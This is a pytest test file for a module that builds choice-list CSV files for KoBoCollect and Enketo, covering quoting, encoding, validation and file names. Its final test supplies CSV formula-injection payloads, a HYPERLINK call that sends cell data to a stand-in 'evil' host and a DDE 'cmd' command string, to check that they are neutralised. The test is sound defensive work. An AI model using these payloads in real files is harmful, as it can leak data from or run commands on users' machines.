"""Choice files built from records (kobo_kpi.media): what KoBoCollect and
Enketo read back with a CSV reader."""

import csv
import io

import pytest
from kobo_kpi.media import (
    MediaError,
    build_csv,
    content_hash,
    csv_file_name,
    preview_rows,
)


def read(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_header_and_rows_in_column_order():
    data = build_csv(
        ["name", "label", "price"],
        [{"name": "P-1", "label": "Soap", "price": 2.5}, {"label": "Rice", "name": "P-2"}],
    )
    assert data == b"name,label,price\r\nP-1,Soap,2.5\r\nP-2,Rice,\r\n"


def test_quoting_commas_quotes_and_newlines():
    rows = [
        {"name": "A,1", "label": 'Soap "extra", 1 kg'},
        {"name": "B", "label": "two\nlines\r\nhere"},
    ]
    data = build_csv(["name", "label"], rows)
    assert b'"A,1","Soap ""extra"", 1 kg"' in data
    assert read(data)[1:] == [["A,1", 'Soap "extra", 1 kg'], ["B", "two\nlines\r\nhere"]]


def test_non_ascii_labels_are_utf8_per_language():
    columns = ["name", "label::English (en)", "label::Français (fr)", "label::العربية (ar)"]
    data = build_csv(columns, [("W1", "Wheat flour", "Farine de blé", "دقيق القمح")])
    assert data.decode("utf-8").splitlines()[1] == "W1,Wheat flour,Farine de blé,دقيق القمح"
    assert read(data)[0] == columns
    assert not data.startswith(b"\xef\xbb\xbf")  # no BOM: it would become part of 'name'


def test_empty_list_is_a_header_only():
    assert build_csv(["name", "label"], []) == b"name,label\r\n"
    assert preview_rows(build_csv(["name", "label"], [])) == (["name", "label"], [], 0)


def test_rows_without_code_are_left_out_and_codes_trimmed():
    data = build_csv(["name", "label"], [(" X ", "x"), ("", "no code"), (False, "none")])
    assert read(data) == [["name", "label"], ["X", "x"]]


def test_duplicate_codes_refused():
    with pytest.raises(MediaError, match="'X' appears on two rows"):
        build_csv(["name", "label"], [("X", "a"), ("X", "b")])


@pytest.mark.parametrize(
    "columns, message",
    [
        (["label"], "needs a 'name' column"),
        (["name", "price"], "needs a 'label' column"),
        (["name", "label", "name"], "appears twice"),
        (["name", "label", "a,b"], "not a usable column"),
        (["name", "label", ""], "not a usable column"),
    ],
)
def test_bad_columns(columns, message):
    with pytest.raises(MediaError, match=message):
        build_csv(columns, [])


def test_values_as_text():
    data = build_csv(["name", "label", "qty", "ok"], [(7, None, 3.0, True), ("8", "b", 0.25, 0)])
    assert read(data)[1:] == [["7", "", "3", "1"], ["8", "b", "0.25", "0"]]


def test_ten_thousand_rows():
    rows = ({"name": f"P{i:05d}", "label": f"Product {i}, size {i % 7}"} for i in range(10000))
    data = build_csv(["name", "label"], rows)
    header, first, count = preview_rows(data, limit=3)
    assert header == ["name", "label"] and count == 10000
    assert first[2] == ["P00002", "Product 2, size 2"]
    assert read(data)[-1] == ["P09999", "Product 9999, size 3"]


def test_file_name_and_hash():
    assert csv_file_name(" products.csv ") == "products.csv"
    for bad in ("products", "../x.csv", "a b.csv", "", "x.xlsx"):
        with pytest.raises(MediaError):
            csv_file_name(bad)
    assert content_hash(b"") == "md5:d41d8cd98f00b204e9800998ecf8427e"


def test_formula_cells_are_neutralised():
    """A cell a spreadsheet would run (= + - @, tab, CR first) is quoted;
    plain numbers stay numbers."""
    data = build_csv(
        ["name", "label"],
        [
            {"name": "A1", "label": '=HYPERLINK("http://evil/?"&A1)'},
            {"name": "A2", "label": "+1+cmd|' /C calc'!A0"},
            {"name": "A3", "label": "@SUM(1)"},
            {"name": "A4", "label": "-5"},
            {"name": "A5", "label": "\tx"},
            {"name": "=A6", "label": "2.5"},
        ],
    )
    rows = list(csv.reader(io.StringIO(data.decode())))[1:]
    assert [r[1] for r in rows] == [
        '\'=HYPERLINK("http://evil/?"&A1)',
        "'+1+cmd|' /C calc'!A0",
        "'@SUM(1)",
        "-5",
        "'\tx",
        "2.5",
    ]
    assert rows[-1][0] == "'=A6"
